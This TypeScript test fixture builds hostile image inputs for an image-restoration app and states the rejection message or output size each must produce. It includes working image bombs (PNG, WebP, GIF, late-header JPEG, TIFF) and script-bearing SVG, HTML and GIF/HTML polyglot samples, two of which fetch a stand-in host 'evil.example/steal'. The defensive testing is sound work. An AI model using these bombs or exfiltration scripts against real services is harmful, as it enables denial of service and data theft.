import { deflateSync } from 'node:zlib';
import { PNG } from 'pngjs';
import sharp from 'sharp';
import { encodePng, photoFixture, type Rgba } from './images';
import { tiffBomb, tiffFile } from './formats';

/**
 * Hostile and unusual inputs, built byte by byte in Node (no fixture files): what a user might
 * drop on the app by accident or on purpose. Each entry says what must happen: a result of a
 * given size, or a message matching `message`.
 */
export interface HostileInput {
  id: string;
  name: string;
  mimeType: string;
  bytes: Buffer;
  /** The recipe: 'fade' (fast, no model) or an upscale x2 'fast' run that exercises tiling. */
  recipe: 'fade' | 'upscale-fast-x2';
  /** `like`: the result must look like this image upscaled (mean colour, pixels), not just have the size. */
  expect: { size: [number, number]; like?: Rgba } | { message: RegExp };
}

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function crc32(buf: Buffer): number {
  let c = 0xffffffff;
  for (const b of buf) c = CRC_TABLE[(c ^ b) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

/** One PNG chunk: length, type, data, CRC over type + data. */
export function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([len, body, crc]);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function ihdr(width: number, height: number, bitDepth = 8, colorType = 2): Buffer {
  const d = Buffer.alloc(13);
  d.writeUInt32BE(width, 0);
  d.writeUInt32BE(height, 4);
  d[8] = bitDepth;
  d[9] = colorType;
  return pngChunk('IHDR', d);
}

/**
 * An image bomb: a valid PNG header declaring width x height (RGB, 8-bit) whose small IDAT holds
 * only a few zero rows. A decoder that trusted the header would allocate width*height*4 bytes.
 */
export function pngBomb(width: number, height: number): Buffer {
  const rows = Buffer.alloc(4 * (1 + width * 3)); // four filter-0 rows of black
  return Buffer.concat([PNG_SIGNATURE, ihdr(width, height), pngChunk('IDAT', deflateSync(rows, { level: 9 })), pngChunk('IEND', Buffer.alloc(0))]);
}

/** Raw RGBA -> PNG scanlines (filter 0) deflated. */
function idatData(img: Rgba): Buffer {
  const raw = Buffer.alloc(img.height * (1 + img.width * 4));
  for (let y = 0; y < img.height; y++) Buffer.from(img.data.subarray(y * img.width * 4, (y + 1) * img.width * 4)).copy(raw, y * (1 + img.width * 4) + 1);
  return deflateSync(raw);
}

/** An APNG with two full-size frames: the first `first`, the second `second` (same size). */
export function apng(first: Rgba, second: Rgba): Buffer {
  const { width, height } = first;
  const u32 = (...v: number[]) => Buffer.concat(v.map((x) => { const b = Buffer.alloc(4); b.writeUInt32BE(x); return b; }));
  const fctl = (seq: number) => Buffer.concat([u32(seq, width, height, 0, 0), Buffer.from([0, 10, 0, 100, 0, 0])]); // 10/100 s, no dispose/blend
  return Buffer.concat([
    PNG_SIGNATURE,
    ihdr(width, height, 8, 6),
    pngChunk('acTL', u32(2, 0)),
    pngChunk('fcTL', fctl(0)),
    pngChunk('IDAT', idatData(first)),
    pngChunk('fcTL', fctl(1)),
    pngChunk('fdAT', Buffer.concat([u32(2), idatData(second)])),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/**
 * A two-frame animated GIF (4-colour palette) of solid colours. LZW: minimum code size 2, and a
 * clear code every two pixels keeps every code 3 bits wide, so no real compressor is needed.
 */
export function animatedGif(width: number, height: number): Buffer {
  const palette = [0xc0, 0x30, 0x30, 0x30, 0x30, 0xc0, 0x30, 0xc0, 0x30, 0xff, 0xff, 0xff];
  const frame = (colour: number) => {
    const codes: number[] = [];
    for (let i = 0; i < width * height; i++) {
      if (i % 2 === 0) codes.push(4); // clear
      codes.push(colour);
    }
    codes.push(5); // end of information
    const bytes: number[] = [];
    let acc = 0, bits = 0;
    for (const c of codes) {
      acc |= c << bits;
      bits += 3;
      while (bits >= 8) { bytes.push(acc & 0xff); acc >>= 8; bits -= 8; }
    }
    if (bits > 0) bytes.push(acc & 0xff);
    const blocks: number[] = [];
    for (let i = 0; i < bytes.length; i += 255) { const part = bytes.slice(i, i + 255); blocks.push(part.length, ...part); }
    return [
      0x21, 0xf9, 4, 0, 10, 0, 0, 0, // graphic control: 0.1 s
      0x2c, 0, 0, 0, 0, width & 0xff, width >> 8, height & 0xff, height >> 8, 0, // image descriptor
      2, ...blocks, 0,
    ];
  };
  return Buffer.from([
    ...Buffer.from('GIF89a', 'latin1'), width & 0xff, width >> 8, height & 0xff, height >> 8, 0xf1, 0, 0, ...palette,
    0x21, 0xff, 11, ...Buffer.from('NETSCAPE2.0', 'latin1'), 3, 1, 0, 0, 0, // loop forever
    ...frame(0), ...frame(1), 0x3b,
  ]);
}

/**
 * A GIF whose logical screen is 10x10 but whose one frame is width x height: decoders
 * grow the canvas to the frame, so a check that reads only the screen size misses it. (35 bytes.)
 */
export function gifFrameBomb(width: number, height: number): Buffer {
  return Buffer.from([
    ...Buffer.from('GIF89a', 'latin1'), 10, 0, 10, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255, // screen, 2-colour table
    0x2c, 0, 0, 0, 0, width & 0xff, width >> 8, height & 0xff, height >> 8, 0, // image descriptor
    2, 2, 0x44, 0x01, 0, // LZW: clear, one pixel, end of information
    0x3b,
  ]);
}

/**
 * A JPEG declaring width x height whose frame header (SOF) comes after `metadata` bytes of APP15
 * segments: a check that reads only the first 256 kB never sees the size. The scan is a tiny
 * image's, so a decoder that trusts the header fills the rest.
 */
export async function jpegLateSof(width: number, height: number, metadata = 300 * 1024): Promise<Buffer> {
  const small = await sharp({ create: { width: 16, height: 16, channels: 3, background: { r: 120, g: 90, b: 60 } } }).jpeg().toBuffer();
  const segments: Buffer[] = [];
  for (let left = metadata; left > 0; left -= 65533) {
    const body = Math.min(65533, left);
    const seg = Buffer.alloc(4 + body, 0x20);
    seg.writeUInt16BE(0xffef, 0);
    seg.writeUInt16BE(body + 2, 2);
    segments.push(seg);
  }
  const out = Buffer.concat([small.subarray(0, 2), ...segments, small.subarray(2)]);
  const sof = out.indexOf(Buffer.from([0xff, 0xc0]), 2 + metadata);
  out.writeUInt16BE(height, sof + 5);
  out.writeUInt16BE(width, sof + 7);
  return out;
}

/**
 * A lossless WebP (VP8L) of width x height black pixels in a few dozen bytes: every prefix code
 * has one symbol, so a pixel costs no bits, and a decoder that trusts the header allocates it all.
 */
export function webpBomb(width: number, height: number): Buffer {
  const bits: number[] = [];
  const put = (value: number, n: number) => { for (let i = 0; i < n; i++) bits.push((value >> i) & 1); };
  put(0x2f, 8); // signature
  put(width - 1, 14);
  put(height - 1, 14);
  put(0, 1); // no alpha used
  put(0, 3); // version
  put(0, 1); // no transform
  put(0, 1); // no colour cache
  put(0, 1); // no meta prefix codes
  // Green, red, blue, alpha, distance: simple codes of one symbol (alpha 255, the rest 0).
  for (const symbol of [0, 0, 0, 255, 0]) {
    put(1, 1); // simple code
    put(0, 1); // one symbol
    put(1, 1); // an 8-bit symbol
    put(symbol, 8);
  }
  const data = Buffer.alloc(Math.ceil(bits.length / 8));
  bits.forEach((bit, i) => { data[i >> 3]! |= bit << (i & 7); });
  const chunk = Buffer.concat([Buffer.from('VP8L', 'latin1'), Buffer.alloc(4), data, Buffer.alloc(data.length & 1)]);
  chunk.writeUInt32LE(data.length, 4);
  const riff = Buffer.concat([Buffer.from('RIFF', 'latin1'), Buffer.alloc(4), Buffer.from('WEBP', 'latin1'), chunk]);
  riff.writeUInt32LE(riff.length - 8, 4);
  return riff;
}

/** A 16-bit-per-channel RGB PNG. */
export function png16(width: number, height: number): Buffer {
  const png = new PNG({ width, height, bitDepth: 16, colorType: 2, inputColorType: 2, inputHasAlpha: false });
  const data = Buffer.alloc(width * height * 3 * 2);
  for (let i = 0; i < width * height; i++) {
    data.writeUInt16BE((i * 977) % 65536, i * 6);
    data.writeUInt16BE(40000, i * 6 + 2);
    data.writeUInt16BE(12000, i * 6 + 4);
  }
  png.data = data;
  return PNG.sync.write(png, { bitDepth: 16, colorType: 2, inputColorType: 2, inputHasAlpha: false });
}

/** An 8-bit grey + alpha PNG (colour type 4). */
export function pngGreyAlpha(width: number, height: number): Buffer {
  const png = new PNG({ width, height });
  for (let i = 0; i < width * height; i++) png.data.set([(i * 7) % 256, (i * 7) % 256, (i * 7) % 256, 128 + (i % 128)], i * 4);
  return PNG.sync.write(png, { colorType: 4 });
}

/** A solid-ish RGBA image of the given size (no photo needed: thin and tiny shapes). */
export function gradient(width: number, height: number): Rgba {
  const data = new Uint8Array(width * height * 4);
  for (let y = 0; y < height; y++) for (let x = 0; x < width; x++) data.set([(x * 255) / Math.max(1, width - 1), 128, (y * 255) / Math.max(1, height - 1), 255], (y * width + x) * 4);
  return { width, height, data };
}

/** A strip with a gentle ramp along its length around the mean (128, 100, 128): the 1x512 case. */
export function tintedStrip(width: number, height: number): Rgba {
  const data = new Uint8Array(width * height * 4);
  const n = Math.max(width, height);
  for (let y = 0; y < height; y++)
    for (let x = 0; x < width; x++) {
      const t = (Math.max(x, y) / (n - 1) - 0.5) * 40; // -20..20
      data.set([128 + t, 100 - t / 2, 128 + t / 2, 255], (y * width + x) * 4);
    }
  return { width, height, data };
}

export const svgWithScript = Buffer.from(`<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30" onload="alert('svg-onload')">
  <script>alert('svg-script'); console.log('HEIRLOOM-SVG-SCRIPT-RAN'); fetch('https://evil.example/steal');</script>
  <rect width="40" height="30" fill="red"/>
</svg>
`);

/**
 * A polyglot: a valid GIF whose bytes after the trailer are an HTML page with a script. Typed as
 * text/html (as a browser types a file named .html), its raw bytes open in a tab as a web page.
 */
export const gifHtmlPolyglot = Buffer.concat([
  animatedGif(24, 16),
  Buffer.from(`<html><body><script>console.log('HEIRLOOM-PREVIEW-SCRIPT-RAN'); fetch('https://evil.example/steal', { method: 'POST', body: 'queue' });</script></body></html>`),
]);

/** A plain web page with a script. */
export const htmlWithScript = Buffer.from(`<!doctype html><html><body><script>console.log('HEIRLOOM-PREVIEW-SCRIPT-RAN'); alert('html-script');</script></body></html>\n`);

/** A few bytes of a HEIC file: an ISO-BMFF 'ftyp' box with brand heic, then a truncated 'meta'. */
export const heicStub = Buffer.concat([
  Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypheic', 'latin1'), Buffer.from([0, 0, 0, 0]), Buffer.from('mif1heic', 'latin1'),
  Buffer.from([0, 0, 0, 0x22]), Buffer.from('meta', 'latin1'), Buffer.alloc(26),
]);

/** A 40x30 RGB TIFF whose IFD comes first and whose pixels stop after 400 of 3600 bytes. */
function truncatedTiff(img: Rgba): Buffer {
  const pixels = Buffer.from(img.data.filter((_, i) => i % 4 !== 3));
  return tiffFile({ width: img.width, height: img.height, bitsPerSample: [8, 8, 8], photometric: 2, pixels, ifdFirst: true }).subarray(0, 400);
}

/** Everything, in the order the spec runs it. */
export async function hostileCorpus(): Promise<HostileInput[]> {
  const photo = photoFixture(40, 30);
  const jpeg = await sharp(Buffer.from(photo.image.data), { raw: { width: 40, height: 30, channels: 4 } }).jpeg({ quality: 90 }).toBuffer();
  const cmyk = await sharp(Buffer.from(photo.image.data), { raw: { width: 40, height: 30, channels: 4 } }).toColourspace('cmyk').jpeg({ quality: 90 }).toBuffer();
  const red: Rgba = { width: 24, height: 16, data: new Uint8Array(24 * 16 * 4).map((_, i) => [200, 40, 40, 255][i % 4]!) };
  const blue: Rgba = { width: 24, height: 16, data: new Uint8Array(24 * 16 * 4).map((_, i) => [40, 40, 200, 255][i % 4]!) };
  const unreadable = /could not be read as an image: this (JPEG|PNG) file is damaged or incomplete.*exporting it again as JPEG or PNG/;
  return [
    { id: 'zero-byte', name: 'empty.jpg', mimeType: 'image/jpeg', bytes: Buffer.alloc(0), recipe: 'fade', expect: { message: /empty.jpg is empty \(0 bytes\)\. Choose the photo file again/ } },
    { id: 'truncated-jpeg', name: 'cut.jpg', mimeType: 'image/jpeg', bytes: jpeg.subarray(0, Math.floor(jpeg.length * 0.4)), recipe: 'fade', expect: { message: unreadable } },
    { id: 'truncated-png', name: 'cut.png', mimeType: 'image/png', bytes: photo.png.subarray(0, photo.png.length >> 1), recipe: 'fade', expect: { message: unreadable } },
    { id: 'png-named-jpg', name: 'really-a-png.jpg', mimeType: 'image/jpeg', bytes: photo.png, recipe: 'fade', expect: { size: [40, 30] } },
    { id: 'text-named-png', name: 'notes.png', mimeType: 'image/png', bytes: Buffer.from('Grandma, 1962, at the lake.\nScan the rest next week.\n'), recipe: 'fade', expect: { message: /notes.png is not an image: it contains text\. Choose a photo \(JPEG, PNG/ } },
    { id: 'bomb-30000', name: 'bomb.png', mimeType: 'image/png', bytes: pngBomb(30000, 30000), recipe: 'fade', expect: { message: /bomb.png declares 30000x30000 pixels \(900 MP\); Heirloom handles up to 250 MP\. Reduce it first/ } },
    { id: 'bomb-60000', name: 'bomb-60k.png', mimeType: 'image/png', bytes: pngBomb(60000, 60000), recipe: 'fade', expect: { message: /declares 60000x60000 pixels \(3600 MP\); Heirloom handles up to 250 MP/ } },
    { id: 'webp-bomb', name: 'big.webp', mimeType: 'image/webp', bytes: webpBomb(16383, 16383), recipe: 'fade', expect: { message: /big.webp declares 16383x16383 pixels \(268 MP\); Heirloom handles up to 250 MP/ } },
    { id: 'gif-frame-bomb', name: 'frame.gif', mimeType: 'image/gif', bytes: gifFrameBomb(20000, 20000), recipe: 'fade', expect: { message: /frame.gif declares 20000x20000 pixels \(400 MP\); Heirloom handles up to 250 MP/ } },
    { id: 'jpeg-late-sof', name: 'late.jpg', mimeType: 'image/jpeg', bytes: await jpegLateSof(20000, 20000), recipe: 'fade', expect: { message: /late.jpg declares 20000x20000 pixels \(400 MP\); Heirloom handles up to 250 MP/ } },
    { id: 'cmyk-jpeg', name: 'cmyk.jpg', mimeType: 'image/jpeg', bytes: cmyk, recipe: 'fade', expect: { size: [40, 30] } },
    { id: 'png-16-bit', name: 'deep.png', mimeType: 'image/png', bytes: png16(32, 20), recipe: 'fade', expect: { size: [32, 20] } },
    { id: 'png-grey-alpha', name: 'grey-alpha.png', mimeType: 'image/png', bytes: pngGreyAlpha(30, 20), recipe: 'fade', expect: { size: [30, 20] } },
    { id: 'animated-gif', name: 'animated.gif', mimeType: 'image/gif', bytes: animatedGif(24, 16), recipe: 'fade', expect: { size: [24, 16] } },
    { id: 'apng', name: 'animated.png', mimeType: 'image/png', bytes: apng(red, blue), recipe: 'fade', expect: { size: [24, 16] } },
    { id: 'svg-script', name: 'drawing.svg', mimeType: 'image/svg+xml', bytes: svgWithScript, recipe: 'fade', expect: { message: /drawing.svg is an SVG drawing, not a photo.*Export it as PNG or JPEG/ } },
    { id: 'gif-html-polyglot', name: 'holiday.html', mimeType: 'text/html', bytes: gifHtmlPolyglot, recipe: 'fade', expect: { size: [24, 16] } },
    { id: 'html-script', name: 'page.html', mimeType: 'text/html', bytes: htmlWithScript, recipe: 'fade', expect: { message: /page.html is not an image: it contains text/ } },
    // The first bytes of a HEIC, cut before its size (ispe): a damaged file, not a refusal of HEIC.
    { id: 'heic-truncated', name: 'IMG_0001.HEIC', mimeType: 'image/heic', bytes: heicStub, recipe: 'fade', expect: { message: /IMG_0001.HEIC could not be read as an image: this HEIC file is damaged or incomplete/ } },
    // Header intact (IFD before the pixels), pixels cut: refused when decoded, not on picking.
    { id: 'truncated-tiff', name: 'cut.tif', mimeType: 'image/tiff', bytes: truncatedTiff(photo.image), recipe: 'fade', expect: { message: /cut.tif could not be read as an image: this TIFF file is damaged or incomplete/ } },
    { id: 'tiff-bomb', name: 'scan.tif', mimeType: 'image/tiff', bytes: tiffBomb(100000, 100000), recipe: 'fade', expect: { message: /scan.tif declares 100000x100000 pixels \(10000 MP\); Heirloom handles up to 250 MP\. Reduce it first/ } },
    { id: '1x1', name: 'dot.png', mimeType: 'image/png', bytes: encodePng(gradient(1, 1)), recipe: 'upscale-fast-x2', expect: { size: [2, 2] } },
    { id: 'thin-10000x2', name: 'thin.png', mimeType: 'image/png', bytes: encodePng(gradient(10000, 2)), recipe: 'upscale-fast-x2', expect: { size: [20000, 4], like: gradient(10000, 2) } },
    { id: 'thin-1x512', name: 'strip.png', mimeType: 'image/png', bytes: encodePng(tintedStrip(1, 512)), recipe: 'upscale-fast-x2', expect: { size: [2, 1024], like: tintedStrip(1, 512) } },
    { id: 'thin-512x2', name: 'strip2.png', mimeType: 'image/png', bytes: encodePng(tintedStrip(512, 2)), recipe: 'upscale-fast-x2', expect: { size: [1024, 4], like: tintedStrip(512, 2) } },
  ];
}
